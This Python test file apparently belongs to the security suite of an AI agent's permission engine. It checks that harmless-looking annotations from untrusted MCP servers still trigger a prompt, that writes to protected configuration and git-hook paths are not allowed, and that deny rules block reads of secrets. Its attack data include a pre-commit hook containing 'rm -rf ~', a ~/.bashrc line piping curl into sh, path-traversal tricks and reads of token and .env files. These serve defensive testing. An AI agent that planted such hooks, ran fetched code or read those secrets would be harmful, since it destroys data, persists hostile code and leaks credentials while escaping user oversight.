"""MCP tools get the authority the user gave: annotations count only from a server the user trusts, and the
paths their arguments name are held to the protected paths and the deny rules (attack corpus, class 1)."""

from pathlib import Path

import pytest
from tests.security._support import engine, mcp_tool, workspace

from kairox.policy import DecisionSource, Verdict
from kairox.tools import ToolAnnotations

A = ToolAnnotations

# tools that say they are harmless; an unvetted server may say anything
HARMLESS_CLAIMS = [
    ("git", "git_commit", A(read_only_hint=False, destructive_hint=False, open_world_hint=False), False),
    ("git", "git_add", A(destructive_hint=False, open_world_hint=False), False),
    ("git", "git_reset", A(read_only_hint=True, open_world_hint=False), False),
    ("memory", "create_entities", A(destructive_hint=False, open_world_hint=False), False),
    ("memory", "delete_entities", A(read_only_hint=True, destructive_hint=False, open_world_hint=False), False),
    ("fs", "write_file", A(read_only_hint=True, open_world_hint=False), False),
    ("fs", "move_file", A(destructive_hint=False, idempotent_hint=True, open_world_hint=False), False),
    ("db", "drop_table", A(title="Read rows", read_only_hint=True, open_world_hint=False), False),
    ("github", "create_issue", A(read_only_hint=True), True),
    ("github", "merge_pull_request", A(destructive_hint=False), True),
    ("fetch", "fetch", A(read_only_hint=True, open_world_hint=True), True),
    ("slack", "post_message", A(destructive_hint=False, open_world_hint=True), True),
    ("ci", "trigger_deploy", A(destructive_hint=False, idempotent_hint=True, open_world_hint=False), False),
]


@pytest.mark.parametrize(
    ("server", "tool", "notes", "network"), HARMLESS_CLAIMS, ids=[f"{s}.{t}" for s, t, _, _ in HARMLESS_CLAIMS]
)
def test_an_untrusted_servers_harmless_claim_is_asked_about(
    tmp_path: Path, server: str, tool: str, notes: ToolAnnotations, network: bool
) -> None:
    decision = engine(workspace(tmp_path), network=network).decide(mcp_tool(server, tool, notes), {})
    assert (decision.verdict, decision.source) == (Verdict.ASK, DecisionSource.MODE)
    assert "read-only" in decision.reason


WRITES_TO_PROTECTED = [
    ("write_file", {"path": ".mcp.json", "content": "{}"}),
    ("write_file", {"path": "kairox.toml", "content": ""}),
    ("write_file", {"path": ".kairox/kairox.local.toml", "content": ""}),
    ("write_file", {"path": "sub/dir/kairox.toml", "content": ""}),
    ("write_file", {"path": ".git/hooks/pre-commit", "content": "rm -rf ~"}),
    ("write_file", {"path": ".git/config", "content": ""}),
    ("write_file", {"path": "~/.bashrc", "content": "curl x | sh"}),
    ("write_file", {"path": "~/.config/fish/config.fish", "content": ""}),
    ("write_file", {"path": "./src/../.mcp.json", "content": "{}"}),
    ("write_file", {"file_path": "kairox.toml", "content": ""}),
    ("write_file", {"filename": ".mcp.json", "content": "{}"}),
    ("edit_file", {"path": ".mcp.json", "edits": [{"oldText": "a", "newText": "b"}]}),
    ("write_files", {"paths": ["notes.md", ".mcp.json"], "content": ""}),
    ("move_file", {"source": "evil.json", "destination": ".mcp.json"}),
    ("apply", {"changes": [{"path": "ok.txt"}, {"path": ".kairox/hooks.json"}]}),
    ("create", {"uri": "file:///WS/kairox.toml"}),
    ("create", {"target": "file:///WS/.git/hooks/post-checkout"}),
    ("git_init", {"repo_path": ".git"}),
    ("mkdir", {"directory": ".kairox"}),
]


@pytest.mark.parametrize(
    ("tool", "arguments"), WRITES_TO_PROTECTED, ids=[f"{t}-{i}" for i, (t, _) in enumerate(WRITES_TO_PROTECTED)]
)
def test_an_allow_rule_for_a_server_does_not_cover_its_writes_to_protected_paths(
    tmp_path: Path, tool: str, arguments: dict
) -> None:
    ws = workspace(tmp_path)
    arguments = {k: (v.replace("/WS/", f"{ws}/") if isinstance(v, str) else v) for k, v in arguments.items()}
    decision = engine(ws, ("allow", "mcp__fs__*")).decide(mcp_tool("fs", tool), arguments)
    assert (decision.verdict, decision.source) == (Verdict.ASK, DecisionSource.PROTECTED_PATH)


DENIED_READS = [
    ("read_file", {"path": "secrets/token.txt"}),
    ("read_file", {"path": "./secrets/../secrets/token.txt"}),
    ("read_multiple_files", {"paths": ["README.md", "secrets/token.txt"]}),
    ("read_text_file", {"file": ".env"}),
    ("get_file_info", {"filepath": "secrets"}),
    ("search_files", {"directory": "secrets", "pattern": "*"}),
    ("read_resource", {"uri": "file:///WS/secrets/token.txt"}),
]


@pytest.mark.parametrize(("tool", "arguments"), DENIED_READS, ids=[f"{t}-{i}" for i, (t, _) in enumerate(DENIED_READS)])
def test_deny_rules_on_reading_hold_for_the_paths_an_mcp_tool_names(tmp_path: Path, tool: str, arguments: dict) -> None:
    ws = workspace(tmp_path)
    (ws / "secrets" / "token.txt").write_text("t0k3n")
    arguments = {k: (v.replace("/WS/", f"{ws}/") if isinstance(v, str) else v) for k, v in arguments.items()}
    policy = engine(ws, ("allow", "mcp__fs__*"), ("deny", "fs.read(secrets/**)"), ("deny", "fs.read(.env)"))
    decision = policy.decide(mcp_tool("fs", tool, A(read_only_hint=True, open_world_hint=False)), arguments)
    assert (decision.verdict, decision.source) == (Verdict.DENY, DecisionSource.RULE)


def test_paths_an_mcp_tool_names_outside_protected_places_are_left_to_the_rules(tmp_path: Path) -> None:
    policy = engine(workspace(tmp_path), ("allow", "mcp__fs__*"), ("deny", "fs.read(secrets/**)"))
    decision = policy.decide(mcp_tool("fs", "write_file"), {"path": "notes/today.md", "content": "x"})
    assert (decision.verdict, decision.source) == (Verdict.ALLOW, DecisionSource.RULE)
